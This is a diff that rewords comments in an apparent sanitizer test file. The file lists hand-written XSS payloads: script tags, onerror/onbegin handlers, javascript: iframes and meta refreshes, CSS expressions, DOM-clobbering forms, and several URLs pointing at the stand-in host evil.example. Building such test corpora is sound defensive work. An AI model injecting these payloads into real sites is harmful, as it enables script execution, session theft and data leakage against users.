@@ -1,9 +1,9 @@
 /**
- * Written by hand after what is public knowledge of each trick; where it was first told stands above its group. `RUN` becomes the
- * call that tells that it ran. None is copied from a collection.
+ * Written by hand after published techniques; the source of each stands above its group. `RUN` is replaced by the
+ * call that reports the execution. None is copied from a collection.
  */
 export const written: readonly string[] = [
-  // Scripts as such, and in what reads like one.
+  // Scripts, and elements that behave like one.
   '<script>RUN</script>',
   '<SCRIPT>RUN</SCRIPT>',
   '<script\n>RUN</script >',
@@ -32,7 +32,7 @@ export const written: readonly string[] = [
   '<script>setTimeout`RUN`</script>',
   '<script>[].constructor.constructor("RUN")()</script>',
   '<script>eval("\\x72an(0)");RUN</script>',
-  // Elements that fire by themselves.
+  // Elements that fire events by themselves.
   '<img src=x onerror=RUN>',
   '<img src=x: onerror=RUN>',
   '<image src=x onerror=RUN>',
@@ -90,7 +90,7 @@ export const written: readonly string[] = [
   '<content-visibility style="display:block;content-visibility:auto" oncontentvisibilityautostatechange=RUN>x</content-visibility>',
   '<div hidden=until-found onbeforematch=RUN>x</div>',
   '<b onpointerrawupdate=RUN>x</b>',
-  // Animations of SVG: the cheat sheet of PortSwigger, and Gareth Heyes.
+  // SVG animations: the cheat sheet of PortSwigger, and Gareth Heyes.
   '<svg><animate onbegin=RUN attributeName=x dur=1s>',
   '<svg><set onbegin=RUN attributeName=x dur=1s>',
   '<svg><animateTransform onbegin=RUN attributeName=transform dur=1s>',
@@ -120,7 +120,7 @@ export const written: readonly string[] = [
   '<svg><handler type=text/javascript>RUN</handler></svg>',
   '<svg><discard onbegin=RUN>',
   '<svg><switch><foreignObject><img src=x onerror=RUN></foreignObject></switch>',
-  // Documents within the document.
+  // Nested documents.
   '<iframe src=javascript:RUN></iframe>',
   '<iframe src="javascript:parent.RUN"></iframe>',
   '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
@@ -140,7 +140,7 @@ export const written: readonly string[] = [
   '<object type=text/x-scriptlet data=x onerror=RUN></object>',
   '<isindex type=image src=x onerror=RUN>',
   '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.RUN</script>"></iframe>',
-  // What steers the page.
+  // Elements that redirect or rebase the page.
   '<meta http-equiv=refresh content="0;url=javascript:RUN">',
   '<meta http-equiv="refresh" content="0;url=https://evil.example/#RUN">',
   '<meta http-equiv=refresh content="0;data:text/html,<script>RUN</script>">',
@@ -167,7 +167,7 @@ export const written: readonly string[] = [
   '<input onauxclick=RUN>',
   '<keygen autofocus onfocus=RUN>',
   '<input type=search onsearch=RUN value=1 autofocus>',
-  // Styles. Expression and bindings belong to browsers of another age.
+  // Styles. Expressions and bindings belong to old browsers.
   '<div style="background:url(javascript:RUN)">x</div>',
   '<div style="width:expression(RUN)">x</div>',
   '<div style="behavior:url(#default#time2)" onbegin=RUN>x</div>',
@@ -186,7 +186,7 @@ export const written: readonly string[] = [
   '<layer src=javascript:RUN></layer>',
   '<div style="x:\\65xpression(RUN)">x</div>',
   '<link rel=stylesheet href="data:text/css,*{background:url(https://evil.example/RUN)}">',
-  // Pictures and media that ask outside.
+  // Pictures and media that load from outside.
   '<img src=https://evil.example/RUN.png>',
   '<img srcset="https://evil.example/RUN.png 1x">',
   '<picture><source srcset=https://evil.example/RUN.png><img></picture>',
@@ -201,7 +201,7 @@ export const written: readonly string[] = [
   '<img lowsrc=https://evil.example/RUN dynsrc=https://evil.example/RUN>',
   '<img src="//evil.example/RUN">',
   '<img src="\\\\evil.example\\RUN">',
-  // Names that stand in the way of the page's own (clobbering), and the fields a cleaner reads of an element.
+  // Names that shadow the page's own (DOM clobbering), and the properties that a sanitizer reads of an element.
   '<form id=attributes onmouseover=RUN><input name=attributes></form>',
   '<form onclick=RUN><input name=parentNode><input name=removeChild>x</form>',
   '<form onmouseover=RUN><input name=nodeName>x</form>',
